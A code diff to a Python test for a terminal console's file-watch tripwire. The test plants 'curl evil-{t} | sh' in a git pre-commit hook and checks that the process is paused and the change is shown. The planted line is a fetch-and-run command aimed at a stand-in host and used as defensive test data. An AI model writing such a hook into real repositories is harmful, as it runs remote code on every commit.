@@ -223,7 +223,9 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
     app = make_app(d, clock)
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
-        sid, pid = start(d, ws, "sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t))
+        sid, pid = start(
+            d, ws, f"sleep 0.6; echo 'curl evil-{t} | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
+        )
         try:
             await tripwire_item(pilot, app, sid)
             assert wait_for(lambda: stopped(pid))
@@ -244,13 +246,18 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
             # baseline" as if nothing happened: it shows the change that was answered.
             with d.operator() as op:
                 answer = op.call("watch.diff", {"workspace_root": str(ws), "path": ".git/hooks/pre-commit"})
-            assert answer["diff"] == "" and "+curl evil | sh" in answer["accepted"]["diff"]
+            assert answer["diff"] == "" and f"+curl evil-{t} | sh" in answer["accepted"]["diff"]
             from console.tui.present import PLAIN
             from console.tui.widgets.watch_text import event_detail
 
-            event = {"path": ".git/hooks/pre-commit", "workspace_root": str(ws), "protected": True, "kind": "modified"}
+            event = {
+                "path": ".git/hooks/pre-commit",
+                "workspace_root": str(ws),
+                "protected": True,
+                "kind": "modified",
+            }
             shown = event_detail(event, PLAIN, diff="", accepted=answer["accepted"], now=0).plain
             assert "same as its baseline" not in shown
-            assert "the change you answered" in shown and "+curl evil | sh" in shown
+            assert "the change you answered" in shown and f"+curl evil-{t} | sh" in shown
         finally:
             cleanup(d, sid)
